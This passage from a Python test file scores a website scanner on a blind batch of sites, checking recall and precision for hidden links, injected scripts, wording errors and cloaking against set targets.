        and (f.url not in planted or planted[f.url] in f.detail["targets"])
    }
    browser = _version(NORMAL_HOME)
    cloaked = {
        name
        for name, html, status, final in CLOAKED + NOT_CLOAKED
        if compare_versions(browser, _version(html, status, final))
    }
    return {
        "hidden links": (hidden, want["hidden links"]),
        "injected scripts": ({f.url for f in findings if f.check == "malicious_script"}, want["injected scripts"]),
        "wording errors": ({(f.url, f.detail["wrong"]) for f in findings if f.check == "wording_error"}, want["wording"]),
        "cloaking": (cloaked, {name for name, *_ in CLOAKED}),
    }  # fmt: skip


def _scores(found: set, wanted: set) -> tuple[float, float]:
    hits = found & wanted
    return len(hits) / max(1, len(wanted)), (len(hits) / len(found) if found else 1.0)


TARGETS = {
    "hidden links": (0.95, 0.90),
    "injected scripts": (0.90, 0.90),
    "wording errors": (0.80, 0.80),
    "cloaking": (1.0, 1.0),  # every cloaked site, no other
}


def test_blind_batch_meets_the_targets(capsys) -> None:
    misses = {}
    for name, (found, wanted) in evaluate().items():
        recall, precision = _scores(found, wanted)
        with capsys.disabled():
            print(
                f"\n  blind batch, {name}: recall {len(found & wanted)}/{len(wanted)} = {recall:.1%},"
                f" precision {len(found & wanted)}/{len(found)} = {precision:.1%}",
                end="",
            )
        if recall < TARGETS[name][0] or precision < TARGETS[name][1]:
            misses[name] = (sorted(wanted - found), sorted(found - wanted))
    assert misses == {}
